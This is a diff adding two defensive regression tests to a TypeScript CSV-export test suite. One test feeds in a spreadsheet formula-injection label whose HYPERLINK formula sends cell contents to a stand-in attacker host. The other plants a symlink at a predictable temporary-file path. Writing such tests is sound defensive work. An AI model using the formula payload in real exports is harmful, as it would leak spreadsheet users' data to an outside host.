@@ -3,7 +3,7 @@
 // names, releases by name, memos as plain text), the optional BOM; and a cancel or a failure leaves
 // the chosen file as it was, with no temporary file behind.
 import * as assert from 'node:assert/strict';
-import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { CollectionQuery, Defect, FieldCatalog, FieldMeta, Page, PagedQuery, ProjectApi } from '../../../src/api/index';
@@ -95,6 +95,33 @@ describe('export: the CSV writer', () => {
     await assert.rejects(writeCsv(api, { query, columns: ['id', 'name'], path, bom: true, names, pageSize: 1000, signal: cancel.signal }), { name: 'AbortError' });
     assert.equal(readFileSync(path, 'utf8'), 'earlier export');
     assert.deepEqual(readdirSync(dir), ['keep.csv']);
+  });
+
+  it('guards the header as it guards values: a field label can start a formula (issue 38.6)', async () => {
+    const label = '=HYPERLINK("http://evil.example/?"&A2,"Summary")';
+    const hostile: FieldCatalog = { ...catalog, get: (n) => (n === 'name' ? { ...FIELDS[1], label } : catalog.get(n)) };
+    const api = { ...fakeProject(1).api, fields: async () => hostile };
+    const path = join(dir, 'guarded.csv');
+    await writeCsv(api, { query, columns: ['id', 'name'], path, bom: false, guardFormulas: true, names });
+    assert.deepEqual(readCsv(readFileSync(path, 'utf8'))[0], ['Defect ID', `'${label}`]);
+  });
+
+  it('does not follow a symlink planted where the temporary file would be (issue 38.6)', async () => {
+    const victim = join(dir, 'victim.txt');
+    writeFileSync(victim, 'not to be touched');
+    const path = join(dir, 'out.csv');
+    // The temporary name as it used to be made (pid and clock): planted for the moment of the export.
+    const now = Date.now();
+    symlinkSync(victim, join(dir, `.out.csv.${process.pid}.${now}.part`));
+    const realNow = Date.now;
+    Date.now = () => now;
+    try {
+      await writeCsv(fakeProject(3).api, { query, columns: ['id'], path, bom: false, names });
+    } finally {
+      Date.now = realNow;
+    }
+    assert.equal(readFileSync(victim, 'utf8'), 'not to be touched');
+    assert.equal(readFileSync(path, 'utf8'), 'Defect ID\r\n1\r\n2\r\n3\r\n');
   });
 
   it("fails with the file system's reason when the folder cannot be written, without hanging", async () => {
